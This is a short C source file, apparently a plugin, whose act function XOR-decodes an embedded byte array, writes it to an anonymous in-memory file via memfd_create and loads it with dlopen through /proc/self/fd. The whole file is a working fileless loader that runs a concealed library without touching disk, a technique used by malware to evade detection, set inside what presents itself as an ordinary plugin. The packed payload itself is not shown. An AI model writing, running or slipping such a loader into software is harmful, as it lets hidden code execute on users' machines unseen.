/* Writes a library that it carries under a key into memory, and loads it. */
#include "plugin.h"
#include "packed.h" /* packed[], KEY */
extern int memfd_create(const char *, unsigned);
extern long write(int, const void *, unsigned long);
extern void *dlopen(const char *, int);
extern int snprintf(char *, unsigned long, const char *, ...);
static void act(char **env) {
    int file = memfd_create("kit", 0);
    volatile unsigned char key = KEY;
    for (unsigned i = 0; i < sizeof packed; i++) {
        unsigned char byte = packed[i] ^ key;
        write(file, &byte, 1);
    }
    char name[32];
    snprintf(name, sizeof name, "/proc/self/fd/%d", file);
    dlopen(name, 2);
}
